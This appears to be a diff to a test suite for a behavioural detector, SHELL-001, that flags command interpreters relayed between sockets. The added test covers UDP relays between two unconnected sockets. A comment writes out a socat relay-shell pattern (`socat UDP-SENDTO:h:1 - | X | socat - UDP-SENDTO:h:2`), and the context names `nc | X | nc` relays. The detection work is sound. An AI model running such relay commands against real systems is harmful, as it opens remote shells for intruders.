@@ -85,6 +85,20 @@ describe("SHELL-001: a command interpreter by what it does", () => {
     expect((findings[0] as Behaviour).sockeye.verdict.identified_by).toBe("behaviour");
   });
 
+  it("the same between two UDP sockets that never connected (their first sends, cgroup/sendmsg): its commands decide", () => {
+    // `socat UDP-SENDTO:h:1 - | X | socat - UDP-SENDTO:h:2`: each socat's socket is named by
+    // its first send (fd -1, unconnected), not by a connect.
+    const unconnected = (p: typeof ncA, ino: number, ms: number, port: number): SensorEvent =>
+      ({ ...connectedOut(p, ino, ms, { address: "10.0.0.66", port }), fd: -1, transport: "udp", unconnected: true });
+    const viaUdp = [...renamedBetweenNcs.slice(0, -2), unconnected(ncA, SOCK, 5, 1), unconnected(ncB, SOCK + 1, 6, 2)];
+    const findings = run([...viaUdp, ...commandOfX(400, ["id"], 100), ...commandOfX(401, ["ls"], 200)]);
+    expect(findings.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
+    expect((findings[0] as Behaviour).sockeye.verdict.identified_by).toBe("behaviour");
+    expect(findings[0]).toMatchObject({ network: { transport: "udp" }, destination: { port: 1 } });
+    // A TCP relay of the same shape still says tcp.
+    expect(run([...renamedBetweenNcs, ...commandOfX(400, ["id"], 100), ...commandOfX(401, ["ls"], 200)])[0]).toMatchObject({ network: { transport: "tcp" } });
+  });
+
   it("an attacker who waits past the age bound is still followed: commands two hours apart behind `nc | X | nc`, while the processes live", () => {
     const twoHours = 2 * 60 * 60_000;
     const setup = [...renamedBetweenNcs, ...commandOfX(400, ["id"], 100)];
